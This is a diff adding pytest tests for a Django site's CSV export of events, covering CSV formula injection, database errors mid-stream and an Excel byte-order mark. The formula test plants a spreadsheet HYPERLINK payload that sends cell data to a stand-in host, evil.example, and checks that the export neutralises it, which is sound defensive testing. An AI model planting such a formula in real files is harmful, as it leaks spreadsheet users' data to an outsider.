@@ -1,5 +1,6 @@
 from __future__ import annotations
 
+import codecs
 import csv
 import datetime
 import io
@@ -9,6 +10,7 @@ from urllib.parse import urlencode
 import icalendar
 import jsonschema
 import pytest
+from django.db import OperationalError, connection
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
@@ -158,6 +160,71 @@ def test_csv_unreviewed_adds_proposed_events(client, events):
 def test_csv_ignores_the_page_parameter_and_empty_fields(client, events):
     rows = read_csv(client.get("/export/events.csv?page=3&country=&type=&q="))
     assert len(rows) == 7
+
+
+FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]
+
+
+def cells(rows: list[dict[str, str]]) -> list[str]:
+    """Every cell, and every line of the multi-line ones (a spreadsheet may split them)."""
+    return [line for row in rows for value in row.values() for line in [value, *value.splitlines()]]
+
+
+@pytest.mark.parametrize("start", FORMULA_STARTS)
+def test_csv_no_cell_starts_a_formula_whatever_the_field(client, start):
+    """An outlet comes from an ingested page's og:site_name: formulas ran in the countries,
+    participants and outlets columns."""
+    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'
+    event = EventFactory(
+        title=formula, summary=formula, date_text=formula, status=Event.Status.PLANNED
+    )
+    event.jurisdictions.set([Jurisdiction.objects.create(code="XQ", name=formula)])
+    event.participants.set([Official.objects.create(full_name=formula, slug="formula")])
+    Meeting.objects.create(event=event, location=formula)
+    for n in range(2):
+        article = ArticleFactory(outlet=formula, url=f"{formula}{n}", title=formula)
+        EvidenceFactory(event=event, article=article, sentence=formula, start_char=n, end_char=9)
+    [row] = read_csv(client.get("/export/events.csv"))
+    for value in cells([row]):
+        assert not value.startswith(tuple(FORMULA_STARTS)), value
+    # Names and outlets are written on one line: a leading tab or CR is dropped, not quoted.
+    one_line = formula.strip() if start in "\t\r" else f"'{formula}"
+    assert row["countries"] == row["participants"] == one_line
+    assert row["source_outlets"].splitlines() == [one_line] * 2
+    assert row["title"] == f"'{formula}"
+
+
+def test_csv_guard_leaves_ordinary_text_alone(client, events):
+    [row] = [
+        r for r in read_csv(client.get("/export/events.csv")) if r["id"] == str(events["talks"].pk)
+    ]
+    assert row["countries"] == "Japan; United States"
+    assert row["source_outlets"].splitlines() == ["Kyodo News", "Reuters"]
+
+
+def test_csv_database_failure_is_an_error_not_a_truncated_200(client, events):
+    """The body streamed after a 200: a failing first query left a header row and no error."""
+
+    def fail_on_events(execute, sql, params, many, context):
+        if "timeline_event" in sql:
+            raise OperationalError("the database went away")
+        return execute(sql, params, many, context)
+
+    client.raise_request_exception = False
+    with connection.execute_wrapper(fail_on_events):
+        response = client.get("/export/events.csv")
+    assert response.status_code == 500
+
+
+def test_csv_for_excel_starts_with_a_byte_order_mark(client, events):
+    """Excel reads a CSV without a BOM as the local code page: "Japan–US" came out garbled."""
+    plain = b"".join(client.get("/export/events.csv").streaming_content)
+    response = client.get("/export/events.csv", {"excel": "1", "country": "JP"})
+    excel = b"".join(response.streaming_content)
+    assert not plain.startswith(codecs.BOM_UTF8)
+    assert excel.startswith(codecs.BOM_UTF8 + b"id,url,")
+    assert "Japan–US talks planned" in excel.decode("utf-8-sig")
+    assert "Undated plan" not in excel.decode("utf-8-sig")  # the filters still apply
 
 
 @pytest.mark.parametrize(
@@ -357,3 +424,8 @@ PARAMETERS = ["country", "official", "type", "status", "from", "to", "q", "unrev
 def test_exports_answer_any_query_string_without_server_error(client, events, url, params):
     response = client.get(f"{url}?{urlencode(params)}")
     assert response.status_code in {200, 400}
+
+
+def test_timeline_offers_the_csv_for_excel_with_its_filters(client, events):
+    text = client.get("/", {"country": "JP"}).text
+    assert 'href="/export/events.csv?country=JP&amp;excel=1"' in text
